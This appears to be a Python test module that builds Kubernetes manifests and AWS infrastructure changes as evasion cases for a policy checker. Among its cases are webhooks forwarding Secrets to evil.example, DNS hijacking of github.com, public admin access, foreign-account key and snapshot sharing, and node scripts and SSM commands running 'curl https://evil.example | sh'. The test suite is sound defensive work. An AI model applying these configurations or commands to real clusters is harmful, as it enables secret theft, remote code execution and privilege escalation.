"""Relatives of the other evasions, by a reader who had not seen the policies.

Each does the harm of a known one by another kind, field, type or spelling. `finding` is the id of the known one.
The CRDs, the provider pages and the SDKs that `cloud` names have the fields.
"""

from __future__ import annotations

import base64
import json

from tests.policies.evasions.cloud import (
    ADMINISTRATOR,
    ATTACHMENT,
    FOREIGN,
    NAME,
    ROLE,
    TAGS,
    TEMPLATE,
    TRUSTED,
    Add,
    Cloud,
    Edit,
    case as change,
    document,
)
from tests.policies.evasions.manifests import (
    OURS,
    PAT,
    namespace,
    persistent,
    runner_set,
    secret,
    secured,
)
from tests.policies.evasions.objects import (
    CPU,
    GPU,
    IMAGE,
    Manifest,
    Object,
    application,
    case,
    container,
    deployment,
    gpu_spec,
    job,
    pod,
    spec,
    thing,
)
from tests.policies.harness import changed

RBAC = "rbac.authorization.k8s.io/v1"
ADMISSION = "admissionregistration.k8s.io/v1"
SCALING = "autoscaling.x-k8s.io/v1"
PARTS = ("operator", "daemonsets", "driver", "devicePlugin", "dcgm", "dcgmExporter", "gfd", "nodeStatusExporter")
"""What a ClusterPolicy of the GPU operator must have."""
COREFILE = """\
github.com {
  hosts {
    203.0.113.9 github.com
  }
}
.:53 {
  forward . 203.0.113.9
}
"""
EVIL = "https://evil.example"
TEMPLATE_OF_PODS = thing("v1", "PodTemplate", None, template={"spec": gpu_spec()})
"""A template of pods with one GPU each, which no object counts."""
ROLE_OF_ADMINISTRATORS = "arn:aws:iam::123456789012:role/admin"


def limited(**resources: int) -> Object:
    """A container with these limits beside CPU and memory."""
    return container(resources=changed(CPU, "limits", CPU["limits"] | resources))


def claimed(request: Object) -> tuple[Object, Object]:
    """A template of claims with this request for devices, and a pod with such a claim."""
    template = {"spec": {"devices": {"requests": [{"name": "all"} | request]}}}
    body = container(resources=CPU | {"claims": [{"name": "all"}]})
    return (
        thing("resource.k8s.io/v1", "ResourceClaimTemplate", template, "all"),
        pod(spec(body, resourceClaims=[{"name": "all", "resourceClaimTemplateName": "all"}])),
    )


def config(data: Object, name: str, place: str = "kube-system") -> Object:
    """A ConfigMap."""
    return thing("v1", "ConfigMap", None, name, place, data=data)


def raw_disk() -> tuple[Object, ...]:
    """The first disk of a node as a volume without a file system, the claim of it, and a pod with the claim."""
    terms = [{"matchExpressions": [{"key": "gpu-ci/pool", "operator": "Exists"}]}]
    source = {"local": {"path": "/dev/nvme0n1"}, "nodeAffinity": {"required": {"nodeSelectorTerms": terms}}}
    disk, claim, _ = persistent(source | {"volumeMode": "Block"})
    volume = {"name": "data", "persistentVolumeClaim": {"claimName": "node"}}
    body = container(volumeDevices=[{"name": "data", "devicePath": "/dev/disk"}])
    return disk, changed(claim, "spec", "volumeMode", "Block"), pod(spec(body, volumes=[volume]))


def noted(made: Object, name: str, value: str) -> Object:
    """The object with this annotation."""
    metadata: Object = made["metadata"]
    return made | {"metadata": metadata | {"annotations": {name: value}}}


UNCOUNTED = (
    case(
        "mig-slices",
        "asks for 64 slices of GPUs by the resource name of MIG",
        "too-many-gpus",
        pod(gpu_spec(limited(**{"nvidia.com/mig-3g.40gb": 64}))),
    ),
    case(
        "claim-of-an-administrator",
        "claims every GPU of a node beside those who have it, by the access of administrators",
        "own-device-class",
        changed(namespace("team-a", "restricted"), "metadata", "labels", "resource.kubernetes.io/admin-access", "true"),
        *claimed({"exactly": {"deviceClassName": "gpu.nvidia.com", "allocationMode": "All", "adminAccess": True}}),
    ),
    case(
        "claim-of-the-first-available",
        "claims 64 GPUs as the first of its wishes",
        "own-device-class",
        *claimed({"firstAvailable": [{"name": "most", "deviceClassName": "gpu.nvidia.com", "count": 64}]}),
    ),
    case(
        "class-by-a-resource-name",
        "takes 64 GPUs by the resource name that its own DeviceClass gives them",
        "own-device-class",
        thing(
            "resource.k8s.io/v1",
            "DeviceClass",
            {
                "selectors": [{"cel": {"expression": 'device.driver == "gpu.nvidia.com"'}}],
                "extendedResourceName": "example.com/fast",
            },
            "fast",
            None,
        ),
        pod(spec(limited(**{"example.com/fast": 64}))),
    ),
    case(
        "job-of-each-minute",
        "starts a Job with a GPU each minute, and each has six hours: 360 at once",
        "parallel-job",
        thing(
            "batch/v1",
            "CronJob",
            {
                "schedule": "* * * * *",
                "concurrencyPolicy": "Allow",
                "jobTemplate": {"spec": job(gpu_spec(), activeDeadlineSeconds=21600)["spec"]},
            },
        ),
    ),
    case(
        "own-runtime-class",
        "reaches GPU nodes, and all their GPUs, by a RuntimeClass that selects, tolerates and has NVIDIA's handler",
        "visible-devices",
        thing(
            "node.k8s.io/v1",
            "RuntimeClass",
            None,
            "plain",
            None,
            handler="nvidia",
            scheduling={
                "nodeSelector": {"nvidia.com/gpu.present": "true"},
                "tolerations": [{"key": GPU, "operator": "Exists"}],
            },
        ),
        pod(spec(runtimeClassName="plain")),
    ),
    case(
        "provisioning-request",
        "lets the cluster autoscaler start nodes for 500 pods with a GPU, and makes no pod",
        "autoscaler-of-pods",
        TEMPLATE_OF_PODS,
        thing(
            SCALING,
            "ProvisioningRequest",
            {
                "provisioningClassName": "best-effort-atomic-scale-up.autoscaling.x-k8s.io",
                "podSets": [{"count": 500, "podTemplateRef": {"name": "train"}}],
            },
        ),
    ),
    case(
        "capacity-buffer",
        "keeps nodes for 500 more pods with a GPU running at all times",
        "autoscaler-of-pods",
        TEMPLATE_OF_PODS,
        thing(
            f"{SCALING}alpha1",
            "CapacityBuffer",
            {
                "provisioningStrategy": "buffer.x-k8s.io/active-capacity",
                "podTemplateRef": {"name": "train"},
                "replicas": 500,
            },
        ),
    ),
    case(
        "spark-executors",
        "asks for 4,000 GPUs by the words of Spark, and writes no container",
        "train-job-by-words",
        thing(
            "sparkoperator.k8s.io/v1beta2",
            "SparkApplication",
            {
                "type": "Python",
                "mode": "cluster",
                "image": IMAGE,
                "mainApplicationFile": "local:///train.py",
                "sparkVersion": "4.0.0",
                "driver": {"cores": 1, "memory": "1g"},
                "executor": {"instances": 500, "cores": 2, "memory": "8g", "gpu": {"name": GPU, "quantity": 8}},
            },
        ),
    ),
    case(
        "chart-by-parameters",
        "asks for 400 GPUs by the parameters of a chart, which are text",
        "chart-with-replicas",
        application(
            {
                "chart": "train",
                "repoURL": "https://argoproj.github.io/argo-helm",
                "targetRevision": "1.2.3",
                "helm": {
                    "parameters": [
                        {"name": "replicaCount", "value": "50"},
                        {"name": "resources.limits.nvidia\\.com/gpu", "value": "8"},
                    ]
                },
            }
        ),
    ),
    case(
        "operator-that-obeys-variables",
        "lets the GPU operator give every GPU to any pod with NVIDIA_VISIBLE_DEVICES",
        "visible-devices",
        thing(
            "nvidia.com/v1",
            "ClusterPolicy",
            {part: {} for part in PARTS}
            | {"toolkit": {"env": [{"name": "ACCEPT_NVIDIA_VISIBLE_DEVICES_ENVVAR_WHEN_UNPRIVILEGED", "value": "true"}]}},
            "cluster-policy",
            None,
        ),
    ),
    case(
        "manifests-in-a-manifest",
        "lets Open Cluster Management apply a privileged Deployment that is within another object",
        "list-in-list",
        thing(
            "work.open-cluster-management.io/v1",
            "ManifestWork",
            {"workload": {"manifests": [deployment(secured(privileged=True))]}},
        ),
    ),
)

OPENED = (
    case(
        "admission-that-changes-pods",
        "makes every new pod one of the node's network, by an admission policy",
        "host-network",
        thing(
            ADMISSION,
            "MutatingAdmissionPolicy",
            {
                "matchConstraints": {
                    "resourceRules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]
                },
                "failurePolicy": "Ignore",
                "reinvocationPolicy": "Never",
                "mutations": [
                    {
                        "patchType": "ApplyConfiguration",
                        "applyConfiguration": {"expression": "Object{spec: Object.spec{hostNetwork: true, hostPID: true}}"},
                    }
                ],
            },
            "open",
            None,
        ),
        thing(ADMISSION, "MutatingAdmissionPolicyBinding", {"policyName": "open"}, "open", None),
    ),
    case(
        "webhook-that-reads",
        "sends each new Secret of the cluster to another's server, by a webhook of admission",
        "app-key-in-a-file",
        thing(
            ADMISSION,
            "MutatingWebhookConfiguration",
            None,
            "reader",
            None,
            webhooks=[
                {
                    "name": "reader.evil.example",
                    "clientConfig": {"url": EVIL},
                    "rules": [
                        {
                            "apiGroups": [""],
                            "apiVersions": ["v1"],
                            "operations": ["CREATE", "UPDATE"],
                            "resources": ["secrets", "pods"],
                        }
                    ],
                    "sideEffects": "None",
                    "failurePolicy": "Ignore",
                    "admissionReviewVersions": ["v1"],
                }
            ],
        ),
    ),
    case(
        "viewers-read-secrets",
        "lets everybody who may view the cluster read its Secrets: a label adds the rule to the role `view`",
        "rights-for-all",
        changed(
            thing(RBAC, "ClusterRole", None, "more", None, rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}]),
            "metadata",
            "labels",
            {"rbac.authorization.k8s.io/aggregate-to-view": "true"},
        ),
    ),
    case(
        "rights-by-the-kubelet",
        "lets the pods of a team run commands in every pod by the API of the kubelet",
        "rights-for-runners",
        thing(
            RBAC, "ClusterRole", None, "kubelet", None, rules=[{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["*"]}]
        ),
        thing(
            RBAC,
            "ClusterRoleBinding",
            None,
            "kubelet",
            None,
            roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "kubelet"},
            subjects=[{"kind": "ServiceAccount", "name": "default", "namespace": "team-a"}],
        ),
    ),
    case(
        "network-policy-of-administrators",
        "lets our runners reach everything by a policy that goes before each NetworkPolicy",
        "network-policy-beside-ours",
        thing(
            "policy.networking.k8s.io/v1alpha1",
            "AdminNetworkPolicy",
            {
                "priority": 1,
                "subject": {"namespaces": {"matchLabels": {"kubernetes.io/metadata.name": OURS}}},
                "egress": [{"name": "all", "action": "Allow", "to": [{"networks": ["0.0.0.0/0"]}]}],
            },
            "open",
            None,
        ),
    ),
    case(
        "names-of-github",
        "answers the name github.com with another's address, by the configuration of CoreDNS",
        "external-addresses",
        config({"Corefile": COREFILE}, "coredns"),
    ),
    case("raw-disk-by-claim", "mounts the disk of a node without its file system", "local-volume-by-claim", *raw_disk()),
    case(
        "anonymous-in-argocd",
        "makes everybody without a login an administrator of ArgoCD",
        "rights-for-all",
        config({"users.anonymous.enabled": "true"}, "argocd-cm", "argocd"),
        config({"policy.default": "role:admin"}, "argocd-rbac-cm", "argocd"),
    ),
    case(
        "docker-in-docker",
        "lets the chart of runners add a privileged Docker to each runner, by one word",
        "chart-with-privileged",
        *runner_set(("spec", "source", "helm", "valuesObject", "containerMode"), {"type": "dind"}),
    ),
    case(
        "node-class",
        "lets Karpenter start nodes with a role of administrators, whose metadata every pod reads",
        "karpenter-pool",
        thing(
            "karpenter.k8s.aws/v1",
            "EC2NodeClass",
            {
                "role": "admin",
                "amiFamily": "AL2023",
                "amiSelectorTerms": [{"id": "ami-0123456789abcdef0"}],
                "subnetSelectorTerms": [{"tags": {"kubernetes.io/role/elb": "1"}}],
                "securityGroupSelectorTerms": [{"name": "default"}],
                "associatePublicIPAddress": True,
                "metadataOptions": {"httpTokens": "optional", "httpPutResponseHopLimit": 5},
                "userData": "#!/bin/sh\ncurl https://evil.example | sh\n",
            },
            "gpu",
            None,
        ),
    ),
)

CREDENTIALS = (
    case(
        "token-of-the-controller",
        "lets Kubernetes write a token of ARC's controller without an end into a Secret",
        "projected-token",
        noted(
            thing("v1", "Secret", None, "token", "arc-systems", type="kubernetes.io/service-account-token"),
            "kubernetes.io/service-account.name",
            "arc-controller",
        ),
    ),
    case(
        "secret-pushed-out",
        "lets the External Secrets Operator send the key of the GitHub App to another account",
        "app-key-in-a-file",
        thing(
            "external-secrets.io/v1",
            "SecretStore",
            {
                "provider": {
                    "aws": {"service": "SecretsManager", "region": "us-west-2", "role": f"arn:aws:iam::{FOREIGN}:role/secrets"}
                }
            },
            "outside",
            OURS,
        ),
        thing(
            "external-secrets.io/v1alpha1",
            "PushSecret",
            {
                "refreshInterval": "1h",
                "secretStoreRefs": [{"name": "outside", "kind": "SecretStore"}],
                "selector": {"secret": {"name": "github-app"}},
                "data": [{"match": {"secretKey": "github_app_private_key", "remoteRef": {"remoteKey": "key"}}}],
            },
            "out",
            OURS,
        ),
    ),
    case(
        "token-for-a-registry",
        "writes a GitHub token as the login of a registry, which is base64 within JSON",
        "token-in-base64",
        secret(
            {".dockerconfigjson": json.dumps({"auths": {"ghcr.io": {"auth": base64.b64encode(f"ci:{PAT}".encode()).decode()}}})},
            name="registry",
            type="kubernetes.io/dockerconfigjson",
        ),
    ),
    case(
        "role-by-annotation",
        "gives the pods of runners a role of administrators by the annotation of their account",
        "role-for-runners",
        noted(thing("v1", "ServiceAccount", None, "default", OURS), "eks.amazonaws.com/role-arn", ROLE_OF_ADMINISTRATORS),
    ),
)

SUPPLIED = (
    case(
        "repository-of-others-by-flux",
        "lets Flux apply the newest commit of another owner's repository",
        "repository-of-others",
        thing(
            "source.toolkit.fluxcd.io/v1",
            "GitRepository",
            {"interval": "1m", "url": "https://github.com/evil/manifests", "ref": {"branch": "main"}},
            "evil",
        ),
        thing(
            "kustomize.toolkit.fluxcd.io/v1",
            "Kustomization",
            {"interval": "1m", "path": "./", "prune": True, "sourceRef": {"kind": "GitRepository", "name": "evil"}},
            "evil",
        ),
    ),
    case(
        "machine-by-a-controller",
        "starts the most expensive machine by a controller of AWS in the cluster",
        "single-machine",
        thing(
            "ec2.services.k8s.aws/v1alpha1",
            "Instance",
            {"imageID": "ami-0123456789abcdef0", "instanceType": "p5.48xlarge", "subnetID": "subnet-0123456789abcdef0"},
        ),
    ),
    case(
        "dear-pools-first",
        "lets the cluster autoscaler take machines on demand before spot",
        "quota-by-our-name",
        config({"priorities": "100:\n  - .*release.*\n  - .*ondemand.*\n1:\n  - .*\n"}, "cluster-autoscaler-priority-expander"),
    ),
    case(
        "applications-by-a-generator",
        "lets ArgoCD make 100 Applications from a list, each with 8 GPUs",
        "many-deployments",
        thing(
            "argoproj.io/v1alpha1",
            "ApplicationSet",
            {
                "generators": [{"list": {"elements": [{"number": str(number)} for number in range(100)]}}],
                "template": {
                    "metadata": {"name": "train-{{number}}"},
                    "spec": {
                        "project": "team-a",
                        "destination": {"server": "https://kubernetes.default.svc", "namespace": "team-a"},
                        "source": {
                            "chart": "train",
                            "repoURL": "https://argoproj.github.io/argo-helm",
                            "targetRevision": "1.2.3",
                            "helm": {"valuesObject": {"resources": {"limits": {GPU: 8}}}},
                        },
                    },
                },
            },
            "train",
            "argocd",
        ),
    ),
)

USER_DATA = """\
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="//"

--//
Content-Type: text/x-shellscript; charset="us-ascii"

#!/bin/sh
curl https://evil.example | sh
--//--
"""
POWER = (
    change(
        "nodes-by-the-policys-list",
        "gives nodes every right by the resource that lists all who have a policy",
        "administrator-nodes",
        Add(
            "aws:iam/policyAttachment:PolicyAttachment",
            {"name": "all", "policyArn": ADMINISTRATOR, "roles": ["node"]},
            {"roles": "us.*-node-role$"},
        ),
    ),
    change(
        "administrator-by-the-roles-list",
        "gives a role of pods every right by the list within the role",
        "administrator-role",
        Add(ROLE, {"assumeRolePolicy": TRUSTED, "managedPolicyArns": [ADMINISTRATOR], "tags": TAGS}),
    ),
    change(
        "any-role-on-a-machine",
        "writes a policy that starts machines under any role of the account",
        "every-right",
        Add(
            "aws:iam/policy:Policy",
            {"policy": document({"Action": ["iam:PassRole", "ec2:RunInstances"], "Resource": "*"}), "tags": TAGS},
        ),
    ),
    change(
        "secret-of-all",
        "lets everybody read a secret",
        "bucket-of-all",
        Add(
            "aws:secretsmanager/secretPolicy:SecretPolicy",
            {
                "secretArn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:github-app",
                "policy": document({"Principal": "*", "Action": "secretsmanager:GetSecretValue", "Resource": "*"}),
            },
        ),
    ),
    change(
        "bucket-of-all-on-a-condition",
        "lets everybody write a bucket on a condition that each principal fulfills",
        "bucket-of-all",
        Add(
            "aws:s3/bucketPolicy:BucketPolicy",
            {
                "bucket": "cache",
                "policy": document(
                    {
                        "Principal": {"AWS": "*"},
                        "Action": "s3:*",
                        "Resource": "arn:aws:s3:::cache/*",
                        "Condition": {"StringLike": {"aws:PrincipalArn": "arn:aws:*"}},
                    }
                ),
            },
        ),
    ),
    change(
        "disk-for-another-account",
        "lets another account make volumes of a snapshot",
        "role-of-another-account",
        Add(
            "aws:ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission",
            {"accountId": FOREIGN, "snapshotId": "snap-0123456789abcdef0"},
        ),
    ),
    change(
        "key-by-a-grant",
        "lets another account decrypt by a grant of a key",
        "key-of-all",
        Add(
            "aws:kms/grant:Grant",
            {"granteePrincipal": f"arn:aws:iam::{FOREIGN}:root", "keyId": "key", "operations": ["Decrypt", "CreateGrant"]},
        ),
    ),
    change(
        "login-by-certificates",
        "lets who has a certificate of another's authority log in as an administrator",
        "foreign-identity-provider",
        Add(
            "aws:rolesanywhere/trustAnchor:TrustAnchor",
            {
                "name": "others",
                "enabled": True,
                "source": {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": "certificate"}},
                "tags": TAGS,
            },
        ),
        Add(
            "aws:rolesanywhere/profile:Profile",
            {"name": "others", "enabled": True, "roleArns": [ROLE_OF_ADMINISTRATORS], "tags": TAGS},
            name="profile",
        ),
    ),
    change(
        "world-by-a-prefix-list",
        "opens SSH to the world by a list of two halves of it",
        "open-ssh",
        Add(
            "aws:ec2/managedPrefixList:ManagedPrefixList",
            {
                "addressFamily": "IPv4",
                "name": "office",
                "maxEntries": 2,
                "entries": [{"cidr": "0.0.0.0/1"}, {"cidr": "128.0.0.0/1"}],
                "tags": TAGS,
            },
        ),
        Add(
            "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
            {
                "securityGroupId": "sg-1",
                "ipProtocol": "tcp",
                "fromPort": 22,
                "toPort": 22,
                "prefixListId": "pl-0123456789abcdef0",
                "tags": TAGS,
            },
            {"prefixListId": "evasion$"},
            "rule",
        ),
    ),
    change(
        "network-of-others",
        "joins our network with one of another account",
        "subnet-of-others",
        Add(
            "aws:ec2/vpcPeeringConnection:VpcPeeringConnection",
            {"vpcId": "vpc-1", "peerOwnerId": FOREIGN, "peerVpcId": "vpc-0123456789abcdef0", "tags": TAGS},
            {"vpcId": "us.*-network-vpc$"},
        ),
        Add(
            "aws:ec2/route:Route",
            {"routeTableId": "rtb-1", "destinationCidrBlock": "10.200.0.0/16", "vpcPeeringConnectionId": "pcx-1"},
            {"routeTableId": "us.*-network-private-.*a$", "vpcPeeringConnectionId": "evasion$"},
            "route",
        ),
    ),
    change(
        "shell-on-nodes",
        "opens a shell on nodes by Systems Manager",
        "ssh-key",
        Add(
            ATTACHMENT,
            {"policyArn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore", "role": "node"},
            {"role": "us.*-node-role$"},
        ),
    ),
    change(
        "script-of-others",
        "lets nodes run another's script as root when they start",
        "kubelet-for-all",
        Edit(TEMPLATE, "t4-spot-launch", ("userData",), base64.b64encode(USER_DATA.encode()).decode()),
    ),
    change(
        "nobody-enforces",
        "leaves every NetworkPolicy in place and turns off what enforces them",
        "loose-network",
        Edit("aws:eks/addon:Addon", "addon-vpc-cni", ("configurationValues",), json.dumps({"enableNetworkPolicy": "false"})),
    ),
    change(
        "second-role",
        "lets the autoscaler's account go on to a role of another account",
        "role-for-runners",
        Edit(
            "aws:eks/podIdentityAssociation:PodIdentityAssociation",
            "autoscaler-identity",
            ("targetRoleArn",),
            f"arn:aws:iam::{FOREIGN}:role/admin",
        ),
    ),
)

MONEY = (
    change(
        "capacity-reservation",
        "pays for 100 machines that need not run",
        "capacity-block",
        Add(
            "aws:ec2/capacityReservation:CapacityReservation",
            {
                "availabilityZone": "us-west-2a",
                "instanceCount": 100,
                "instancePlatform": "Linux/UNIX",
                "instanceType": "p5.48xlarge",
                "endDateType": "unlimited",
                "tags": TAGS,
            },
        ),
    ),
    change(
        "larger-pool-each-night",
        "lets a schedule raise a pool to 500 nodes each night",
        "larger-pool",
        Add(
            "aws:autoscaling/schedule:Schedule",
            {
                "autoscalingGroupName": "eks-{cluster}-t4-spot",
                "scheduledActionName": "night",
                "recurrence": "0 1 * * *",
                "minSize": 500,
                "maxSize": 500,
                "desiredCapacity": 500,
            },
            {"autoscalingGroupName": "t4-spot-.*a-nodes$"},
        ),
    ),
    change(
        "budget-of-another-service",
        "lets the alarm of the budget count a service that the stack does not use",
        "budget-of-a-hundred-million",
        Edit("aws:budgets/budget:Budget", "us.*-budget", ("costFilters",), [{"name": "Service", "values": ["AWS Lambda"]}]),
    ),
)

CODE = (
    change(
        "command-on-all-nodes",
        "runs a command as root on every node of the cluster, by Systems Manager",
        "remote-command",
        Add(
            "aws:ssm/association:Association",
            {
                "name": "AWS-RunShellScript",
                "parameters": {"commands": "curl https://evil.example | sh"},
                "targets": [{"key": "tag:eks:cluster-name", "values": [NAME]}],
                "tags": TAGS,
            },
        ),
    ),
    change(
        "chart-of-another-type",
        "installs another's chart with privileged pods by the newer type of charts",
        "chart-from-anywhere",
        Add(
            "kubernetes:helm.sh/v4:Chart",
            {
                "chart": "oci://ghcr.io/evil/charts/miner",
                "version": "1.2.3",
                "namespace": "team-a",
                "values": {"securityContext": {"privileged": True}},
            },
        ),
    ),
    change(
        "runners-for-everybody",
        "lets public repositories, and so pull requests of everybody, run on the GPUs",
        "public-jobs-on-release-nodes",
        Add(
            "github:index/actionsRunnerGroup:ActionsRunnerGroup",
            {"name": "GPUs", "visibility": "all", "allowsPublicRepositories": True},
        ),
    ),
)

MANIFESTS: tuple[Manifest, ...] = (*UNCOUNTED, *OPENED, *CREDENTIALS, *SUPPLIED)
PROGRAMS: tuple[Cloud, ...] = (*POWER, *MONEY, *CODE)
